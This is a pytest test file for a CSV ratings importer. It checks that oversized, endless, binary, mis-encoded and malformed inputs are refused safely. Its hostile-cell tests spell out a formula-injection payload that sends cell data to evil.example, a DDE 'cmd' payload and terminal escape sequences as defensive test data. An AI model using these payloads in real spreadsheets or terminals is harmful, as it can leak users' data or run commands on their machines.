"""Issue 9: hostile ratings files given to `prospective import`, and tallies no memory could expand.

Each test gives one input a study from elsewhere could hold and asserts the exact answer: the exit
code, the located message, no traceback, and nothing written. The bounds are those of toolkit.limits
(MAX_CSV_BYTES 50 MiB, MAX_CSV_ROWS 200,000, MAX_CSV_LINE_CHARS 10,000), at their defaults.
"""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
import sys
import time
import tracemalloc
from pathlib import Path

import pytest
import yaml

from tests.helpers import run
from toolkit import limits
from toolkit.study.load import load_study
from toolkit.synthesis import charts, importer
from toolkit.synthesis.analysis import ScenarioRatings, Tally, describe

RESULTS = Path("workshop/results/atelier.yaml")
HEADER = "group,scenario,probability,desirability,participant\n"
UTF8_HINT = 'save the sheet as "CSV UTF-8"'
DEVICE = ("error: this is a device, not a file: `prospective import` reads a CSV file saved on disk (a pipe or a "
          "device may never end)")
PIPE = DEVICE.replace("a device, not", "a pipe (FIFO), not")


def import_csv(name: str):
    return run("import", "workshop", "--workshop", "atelier", name)


def refused(result, before: bytes, *problems: str) -> str:
    """The import failed with exactly these problems (hints left out), wrote nothing and left no temporary file."""
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output and "internal error" not in result.output
    errors = [line for line in result.stderr.splitlines() if not line.startswith("    hint:")]
    assert errors == [*problems, f"{len(problems)} problem(s) found: nothing was written."]
    assert result.stdout == ""
    assert RESULTS.read_bytes() == before
    assert [path.name for path in RESULTS.parent.iterdir()] == ["atelier.yaml"]
    return result.stderr


def hint_of(stderr: str) -> str:
    return next(line for line in stderr.splitlines() if line.startswith("    hint:")).removeprefix("    hint: ")


def subprocess_import(file: str, cwd: Path) -> subprocess.CompletedProcess:
    """The real command in its own process: a hang becomes a failure after 60 s instead of blocking the suite."""
    return subprocess.run([sys.executable, "-m", "toolkit", "import", "workshop", "--workshop", "atelier", file],
                          cwd=cwd, capture_output=True, text=True, timeout=60)


# --- files too big, too long, endless -------------------------------------------------------------


def test_a_60_mb_file_is_refused_before_it_is_read(project: Path):
    row = "table-a,communs,3,4,Awa\n"
    with open("big.csv", "w", encoding="utf-8") as handle:
        handle.write(HEADER)
        handle.write(row * (60 * limits.MIB // len(row)))
    before = RESULTS.read_bytes()
    stderr = refused(import_csv("big.csv"), before, "big.csv:1:1: error: the file is larger than 52,428,800 bytes "
                     "(50 MiB): a workshop's ratings take a few kilobytes")
    assert hint_of(stderr) == ("is it the right file? To import it anyway, set PROSPECTIVE_MAX_CSV_BYTES to a "
                               "larger number of bytes")


def test_a_file_that_grows_while_it_is_read_stops_at_the_bound(project: Path, monkeypatch):
    """A file whose size the system does not tell (or that grows) is still bounded: bytes are counted as read."""
    monkeypatch.setattr(limits, "MAX_CSV_BYTES", 1000)
    monkeypatch.setattr(importer, "_status", lambda source, descriptor: (stat.S_IFREG, 0))
    Path("growing.csv").write_text(HEADER + "table-a,communs,3,4,Awa\n" * 100, encoding="utf-8")
    before = RESULTS.read_bytes()
    refused(import_csv("growing.csv"), before,
            "growing.csv:1:1: error: the file is larger than 1,000 bytes (0.0009537 MiB): a workshop's ratings take "
            "a few kilobytes")


def test_300000_rows_are_refused_at_the_first_row_over_the_bound(project: Path):
    Path("rows.csv").write_text(HEADER + "table-a,communs,3,4,Awa\n" * 300_000, encoding="utf-8")
    before = RESULTS.read_bytes()
    stderr = refused(import_csv("rows.csv"), before, "rows.csv:200001:1: error: more than 200,000 rows: a "
                     "workshop's ratings take one row per person and scenario")
    assert hint_of(stderr) == ("is it the right file? To import it anyway, set PROSPECTIVE_MAX_CSV_ROWS to a "
                               "larger number of rows")


def test_the_row_bound_is_raised_by_its_environment_variable(project: Path):
    Path("rows.csv").write_text(HEADER + "table-a,communs,3,4,Awa\n" * 3, encoding="utf-8")
    command = [sys.executable, "-m", "toolkit", "import", "workshop", "--workshop", "atelier", "rows.csv"]
    low = subprocess.run(command, cwd=project, capture_output=True, text=True, timeout=60,
                         env={**os.environ, "PROSPECTIVE_MAX_CSV_ROWS": "3"})
    assert low.returncode == 1 and "rows.csv:4:1: error: more than 3 rows" in low.stderr
    enough = subprocess.run(command, cwd=project, capture_output=True, text=True, timeout=60,
                            env={**os.environ, "PROSPECTIVE_MAX_CSV_ROWS": "4"})
    assert enough.returncode == 0, enough.stderr
    assert "rows.csv: 3 rows, 6 ratings" in enough.stdout


def test_blank_lines_without_end_are_rows_too(project: Path):
    Path("blank.csv").write_bytes(b"\n" * 300_000 + HEADER.encode())
    before = RESULTS.read_bytes()
    refused(import_csv("blank.csv"), before, "blank.csv:200001:1: error: more than 200,000 rows: a workshop's "
            "ratings take one row per person and scenario")


def test_a_50000_character_line(project: Path):
    Path("long.csv").write_text(HEADER + "table-a,communs,3,4," + "A" * 50_000 + "\n", encoding="utf-8")
    before = RESULTS.read_bytes()
    stderr = refused(import_csv("long.csv"), before,
                     "long.csv:2:10001: error: line 2 is longer than 10,000 characters: a row of ratings takes a "
                     "few dozen")
    assert hint_of(stderr) == "is it the right file? (a table whose line breaks were lost, or no table at all)"


def test_a_line_without_end_is_bounded_in_bytes_before_it_is_decoded(project: Path):
    """Multi-byte characters: 40,000 bytes without a line break are too long whatever they decode to."""
    Path("wide.csv").write_text(HEADER + "table-a,communs,3,4," + "€" * 20_000, encoding="utf-8")
    before = RESULTS.read_bytes()
    refused(import_csv("wide.csv"), before, "wide.csv:2:10001: error: line 2 is longer than 10,000 characters: a "
            "row of ratings takes a few dozen")


def test_a_quote_never_closed_does_not_swallow_the_file(project: Path):
    Path("quote.csv").write_text(HEADER + 'table-a,"communs,3,4,Awa\n' + "table-a,communs,3,4,Awa\n" * 2000,
                                 encoding="utf-8")
    before = RESULTS.read_bytes()
    stderr = refused(import_csv("quote.csv"), before, 'quote.csv:2:1: error: row 2 runs over 417 lines and more than '
                     '10,000 characters: a quote (") opened and never closed?')
    assert hint_of(stderr).startswith("close the quote, or remove it")


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom"])
def test_an_endless_device_is_refused_at_once(project: Path, device: str):
    if not Path(device).exists():
        pytest.skip(f"no {device} here")
    before = RESULTS.read_bytes()
    result = subprocess_import(device, project)
    assert result.returncode == 1, result.stderr
    assert result.stderr.splitlines()[0] == f"{device}:1:1: {DEVICE}"
    assert result.stderr.splitlines()[1] == ("    hint: save the ratings in a .csv file first (for example: "
                                             "your-command > ratings.csv), then import that file")
    assert result.stderr.splitlines()[2] == "1 problem(s) found: nothing was written."
    assert RESULTS.read_bytes() == before


def test_a_fifo_nobody_writes_to_is_refused_without_waiting(project: Path):
    if not hasattr(os, "mkfifo"):
        pytest.skip("no named pipes on this system")
    os.mkfifo("ratings.fifo")
    before = RESULTS.read_bytes()
    result = subprocess_import("ratings.fifo", project)
    assert result.returncode == 1, result.stderr
    assert result.stderr.splitlines()[0] == f"ratings.fifo:1:1: {PIPE}"
    assert "Traceback" not in result.stderr and RESULTS.read_bytes() == before


def test_a_fifo_that_never_ends_is_refused_and_its_writer_let_go(project: Path):
    if not hasattr(os, "mkfifo"):
        pytest.skip("no named pipes on this system")
    os.mkfifo("endless.fifo")
    writer = subprocess.Popen([sys.executable, "-c", "import sys\nwith open('endless.fifo', 'w') as pipe:\n"
                               "    while True: pipe.write('table-a,communs,3,4,Awa\\n' * 1000)"],
                              cwd=project, stderr=subprocess.DEVNULL)
    try:
        before = RESULTS.read_bytes()
        result = subprocess_import("endless.fifo", project)
        assert result.returncode == 1, result.stderr
        assert result.stderr.splitlines()[0] == f"endless.fifo:1:1: {PIPE}"
        assert RESULTS.read_bytes() == before
    finally:
        writer.kill()
        writer.wait(timeout=60)


def test_memory_stays_bounded_while_a_large_file_is_read(project: Path):
    """A 4 MB file within every bound is read line by line: the peak is a fraction of the file's size."""
    participant = "P" * 200
    rows = [f"table-a,communs,{1 + i % 5},{1 + i % 3},{participant}\n" for i in range(5)]
    Path("large.csv").write_text(HEADER + "".join(rows) * 4_000, encoding="utf-8")
    assert Path("large.csv").stat().st_size > 4 * limits.MIB
    study = load_study(Path("workshop"))
    tracemalloc.start()
    try:
        imported = importer.read_ratings(Path("large.csv"), study, study.workshops[0])
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert imported.rows == 20_000
    assert imported.ratings["table-a"]["communs"]["probability"] == dict.fromkeys(range(1, 6), 4_000)
    assert peak < limits.MIB, peak  # reading it whole would take more than the file's size


# --- binary data and other encodings -----------------------------------------------------------------


def test_nul_bytes(project: Path):
    Path("nul.csv").write_bytes(HEADER.encode() + b"table-a,comm\x00uns,3,4,Awa\n")
    before = RESULTS.read_bytes()
    stderr = refused(import_csv("nul.csv"), before, 'nul.csv:2:13: error: the file holds a NUL byte (0x00), so it is '
                     'not CSV text: binary data, or text saved as UTF-16 ("Unicode text")?')
    assert UTF8_HINT in stderr


def test_utf16_with_and_without_a_byte_order_mark(project: Path):
    text = HEADER + "table-a,communs,3,4,Awa\n"
    Path("utf16.csv").write_bytes(text.encode("utf-16"))
    Path("utf16le.csv").write_bytes(text.encode("utf-16-le"))
    before = RESULTS.read_bytes()
    stderr = refused(import_csv("utf16.csv"), before,
                     'utf16.csv:1:1: error: the file is UTF-16 text ("Unicode text"), not UTF-8')
    assert UTF8_HINT in stderr
    refused(import_csv("utf16le.csv"), before, 'utf16le.csv:1:2: error: the file holds a NUL byte (0x00), so it is '
            'not CSV text: binary data, or text saved as UTF-16 ("Unicode text")?')


def test_workbooks_and_pictures(project: Path):
    Path("old.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)))
    Path("new.xlsx").write_bytes(b"PK\x03\x04" + bytes(range(256)) * 100)
    Path("photo.csv").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)))
    before = RESULTS.read_bytes()
    refused(import_csv("old.xls"), before,
            "old.xls:1:1: error: this is an Excel 97-2003 workbook (.xls), not a CSV file")
    refused(import_csv("new.xlsx"), before,
            "new.xlsx:1:1: error: this is a spreadsheet workbook (.xlsx or .ods), not a CSV file")
    refused(import_csv("photo.csv"), before, "photo.csv:1:1: error: the file is not UTF-8 text (byte 0x89 cannot be "
            "read)")


def test_a_bad_byte_far_down_is_located_at_its_line_and_column(project: Path):
    Path("late.csv").write_bytes(HEADER.encode() + b"table-a,communs,3,4,Awa\n" * 5000
                                 + "table-a,communs,3,4,Léo".encode("latin-1") + b"\n")
    before = RESULTS.read_bytes()
    refused(import_csv("late.csv"), before, "late.csv:5002:22: error: the file is not UTF-8 text (byte 0xe9 cannot "
            "be read)")


def test_old_mac_line_endings_and_a_crlf_split_across_reads_still_import(project: Path, monkeypatch):
    monkeypatch.setattr(importer, "CHUNK_BYTES", 7)  # a CR at the end of a read, its LF in the next one
    Path("mac.csv").write_bytes(b"group;scenario;probability;desirability\r" + b"table-a;communs;3;4\r" * 3)
    Path("dos.csv").write_bytes(b"\xef\xbb\xbfgroup,scenario,probability,desirability\r\n" +
                                b"table-b,communs,5,\r\n" * 2 + b"\r\n")
    assert import_csv("mac.csv").exit_code == 0
    result = import_csv("dos.csv")
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[0] == "dos.csv: 2 rows, 2 ratings"
    groups = yaml.safe_load(RESULTS.read_text(encoding="utf-8"))["groups"]
    assert groups["table-a"]["ratings"] == {"communs": {"probability": {1: 0, 2: 0, 3: 3, 4: 0, 5: 0},
                                                        "desirability": {1: 0, 2: 0, 3: 0, 4: 3, 5: 0}}}
    assert groups["table-b"]["ratings"]["communs"]["probability"] == {1: 0, 2: 0, 3: 0, 4: 0, 5: 2}
    Path("late.csv").write_bytes(b"group,scenario,probability,desirability\r\n" + b"table-b,communs,5,\r\n" * 5
                                 + b"table-b,communs,9,\r\n")  # CRLFs split across reads are one line end each
    before = RESULTS.read_bytes()
    refused(import_csv("late.csv"), before,
            "late.csv:7:3: error: column 'probability': '9' is not a rating from 1 to 5")


# --- hostile cells -----------------------------------------------------------------------------------


def test_a_formula_is_never_evaluated_nor_written(project: Path):
    """A cell is data: a formula in an id column is an unknown id; in the participant column it is ignored."""
    formula = '=HYPERLINK("http://evil.example/?leak="&A1;"click me")'
    Path("formula.csv").write_text(HEADER + f"{formula},communs,3,4,Awa\n", encoding="utf-8")
    before = RESULTS.read_bytes()
    stderr = refused(import_csv("formula.csv"), before, "formula.csv:2:1: error: column 'group': unknown group "
                     "'=HYPERLINK(\"http://evil.example/?leak=\"&…'")
    assert "click me" not in stderr  # quoted cells are shortened
    Path("participant.csv").write_text(HEADER + f'table-a,communs,3,4,"{formula.replace(chr(34), 2 * chr(34))}"\n'
                                       + "table-a,communs,=1+4,@SUM(1),+cmd|' /C calc'!A0\n", encoding="utf-8")
    refused(import_csv("participant.csv"), before,
            "participant.csv:3:3: error: column 'probability': '=1+4' is not a whole number",
            "participant.csv:3:4: error: column 'desirability': '@SUM(1)' is not a whole number")
    Path("participant.csv").write_text(HEADER + f'table-a,communs,3,4,"{formula.replace(chr(34), 2 * chr(34))}"\n',
                                       encoding="utf-8")
    assert import_csv("participant.csv").exit_code == 0
    written = RESULTS.read_text(encoding="utf-8")
    assert "HYPERLINK" not in written and "evil" not in written


@pytest.mark.parametrize(("cell", "answer"), [
    ("1000000000000000000000000000000", "'1000000000000000000000000000000' is not a rating from 1 to 5"),
    ("9" * 5000, f"'{'9' * 40}…' is not a rating from 1 to 5"),  # more digits than int() converts
    ("-1", "'-1' is not a rating from 1 to 5"),
    ("-0", "'-0' is not a rating from 1 to 5"),
    ("2.5", "'2.5' is not a whole number"),
    ("3,5", "'3,5' is not a whole number"),
    ("1e30", "'1e30' is not a whole number"),
    ("NaN", "'NaN' is not a whole number"),
    ("٣", "'٣' is not a whole number"),  # an Arabic-Indic 3: digits are ASCII
])
def test_ratings_that_are_not_1_to_5(project: Path, cell: str, answer: str):
    Path("rating.csv").write_text(HEADER.replace(",", ";") + f"table-a;communs;{cell};4;Awa\n", encoding="utf-8")
    before = RESULTS.read_bytes()
    refused(import_csv("rating.csv"), before, f"rating.csv:2:3: error: column 'probability': {answer}")


def test_control_characters_in_ids_are_escaped_in_messages(project: Path):
    Path("escape.csv").write_text(HEADER + "table-a\x1b[2J\x1b]0;owned\x07,communs\u202e,3,4,Awa\n", encoding="utf-8")
    before = RESULTS.read_bytes()
    stderr = refused(import_csv("escape.csv"), before,
                     "escape.csv:2:1: error: column 'group': unknown group 'table-a\\x1b[2J\\x1b]0;owned\\x07'",
                     "escape.csv:2:2: error: column 'scenario': unknown scenario 'communs\\u202e' "
                     "(did you mean 'communs'?)")
    assert "\x1b" not in stderr and "\u202e" not in stderr


def test_a_file_name_with_a_line_break_cannot_break_the_results_file(project: Path):
    RESULTS.unlink()
    name = "a\nb: [1\x1b.csv"
    shutil.copy("ratings.csv", name)
    result = import_csv(name)
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[0] == "a\\nb: [1\\x1b.csv: 6 rows, 11 ratings"  # one line, nothing raw
    assert RESULTS.read_text(encoding="utf-8").startswith(
        "# Ratings imported from a\\nb: [1\\x1b.csv by prospective import\ngroups:\n")
    assert run("check", "workshop").exit_code == 0


def test_a_header_of_1500_columns_is_reported_shortly(project: Path):
    Path("wide-header.csv").write_text(",".join(f"c{i}" for i in range(1500)) + "\n" + "x," * 1499 + "x\n",
                                       encoding="utf-8")
    before = RESULTS.read_bytes()
    result = import_csv("wide-header.csv")
    assert result.exit_code == 1
    errors = [line for line in result.stderr.splitlines() if not line.startswith("    hint:")]
    assert errors == ["wide-header.csv:1:1: error: this header fits neither shape of file that `prospective import` "
                      "reads (columns found: c0, c1, c2, c3, c4, c5, c6, c7, c8, c9 and 1490 more)",
                      "1 problem(s) found: nothing was written."]
    Path("repeated.csv").write_text(",".join(["group", "scenario", "probability", "desirability"] * 200) + "\n",
                                    encoding="utf-8")
    result = import_csv("repeated.csv")
    errors = [line for line in result.stderr.splitlines() if not line.startswith("    hint:")]
    assert len(errors) == 102  # 100 repeated columns, the stop, the count
    assert "repeated.csv:1:1: error: 100 problems up to row 1: the rest of the file was not checked" in errors
    assert "repeated.csv:1:104: error: column 'desirability' repeats column 'desirability' (column 4)" in errors
    assert not any(line.startswith("repeated.csv:1:105:") for line in errors)
    assert RESULTS.read_bytes() == before


def test_a_file_full_of_mistakes_stops_after_100_problems(project: Path):
    Path("junk.csv").write_text(HEADER + "tabel-a,comun,9,x,Awa\n" * 100_000, encoding="utf-8")
    before = RESULTS.read_bytes()
    started = time.monotonic()
    result = import_csv("junk.csv")
    assert result.exit_code == 1
    errors = [line for line in result.stderr.splitlines() if not line.startswith("    hint:")]
    assert errors[-1] == "101 problem(s) found: nothing was written."
    assert "junk.csv:26:1: error: 100 problems up to row 26: the rest of the file was not checked" in errors
    assert RESULTS.read_bytes() == before
    assert time.monotonic() - started < 60  # a safety net only: the rest of the file is not even read


# --- tallies: counted, never expanded ----------------------------------------------------------------


def test_statistics_of_a_tally_of_a_trillion_people():
    stats = describe({1: 10**12, 2: 0, 3: 10**12, 4: 0, 5: 2 * 10**12})
    assert stats.n == 4 * 10**12
    # Q1 sits between the 10^12-th value (a 1) and the next (a 3), a quarter of the way: 1 x 1/4 + 3 x 3/4
    assert (stats.median, stats.mean, stats.q1, stats.q3, stats.iqr) == (4.0, 3.5, 2.5, 5.0, 2.5)
    assert stats.distribution == [10**12, 0, 10**12, 0, 2 * 10**12]
    assert stats.consensus == "divided"
    huge = describe(Tally((10**15, 0, 0, 0, 10**15 + 1)))  # keys 1 and 5, one more 5: the median is 5
    assert (huge.median, huge.mean, huge.q1, huge.q3) == (5.0, (6 * 10**15 + 5) / (2 * 10**15 + 1), 1.0, 5.0)
    assert describe({"2": 3}).distribution == [0, 3, 0, 0, 0]  # keys as text, as YAML may give them


def test_charts_of_a_tally_of_a_trillion_people(project: Path):
    study = load_study(Path("workshop"))
    texts = {"probability": "p", "desirability": "d", "scenario": "s", "n": "n", "people": "people",
             "map_title": "map", "map_desc": "desc", "dist_title": "{scenario}", "dist_desc": "{scenario}"}
    rows = [ScenarioRatings(scenario, describe({1: 10**12, 5: 3 * 10**12}), describe({3: 10**15}))
            for scenario in study.scenarios]
    labels = {s.id: s.id for s in study.scenarios}
    drawn = charts.distribution(rows[0], "x", texts)
    assert drawn.rows == [["p", 10**12, 0, 0, 0, 3 * 10**12], ["d", 0, 0, 10**15, 0, 0]]
    assert "<svg" in drawn.svg
    assert charts.rating_map(rows, labels, texts).rows[0][1:] == [5.0, 3.0, 4 * 10**12]
